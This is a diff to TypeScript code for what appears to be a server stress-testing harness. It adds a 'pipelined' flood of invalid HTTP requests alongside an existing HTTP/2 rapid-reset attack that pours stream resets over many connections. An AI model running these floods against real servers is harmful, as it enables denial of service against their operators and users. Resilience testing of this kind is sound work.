@@ -6,7 +6,7 @@ import net from "node:net";
 import tls from "node:tls";
 import { Requests } from "../load/requests.ts";
 import { type Attack, hostAddress } from "./attacks.ts";
-import { H2_PREFACE, HALF_HELLO, REQUESTS, resets } from "./bytes.ts";
+import { H2_PREFACE, HALF_HELLO, invalidRequests, REQUESTS, resets } from "./bytes.ts";
 
 export interface AttackTask extends Pick<Attack, "what" | "hosts" | "connections"> {
   readonly port: number;
@@ -31,8 +31,8 @@ export interface AttackResult {
 const AGAIN_MS = 100;
 /** How often a slow request goes on. */
 const SLOW_MS = 1_000;
-/** Streams of h2 in one write. */
-const RESETS = 100;
+/** Requests or streams of h2 in one write. */
+const POURED = 100;
 /** Connections that are being opened at a time. More would only time out. */
 const OPENING = 200;
 /** The device of the attacker's first connection: others than the honest ones. */
@@ -57,7 +57,7 @@ function connect(n: number): net.Socket {
 function pour(socket: net.Socket, next: () => Uint8Array): void {
   const go = () => {
     if (stopped || socket.destroyed) return;
-    sent += RESETS;
+    sent += POURED;
     if (socket.write(next())) setImmediate(go);
     else socket.once("drain", go);
   };
@@ -104,6 +104,9 @@ function attack(socket: net.Socket): void {
       sent++;
       socket.destroy();
       return;
+    case "pipelined":
+      pour(socket, () => invalidRequests(POURED));
+      return;
     case "rapid-reset": {
       if ((socket as tls.TLSSocket).alpnProtocol !== "h2") {
         socket.destroy();
@@ -112,8 +115,8 @@ function attack(socket: net.Socket): void {
       socket.write(H2_PREFACE);
       let stream = 1;
       pour(socket, () => {
-        stream += 2 * RESETS;
-        return resets(stream - 2 * RESETS, RESETS);
+        stream += 2 * POURED;
+        return resets(stream - 2 * POURED, POURED);
       });
       return;
     }
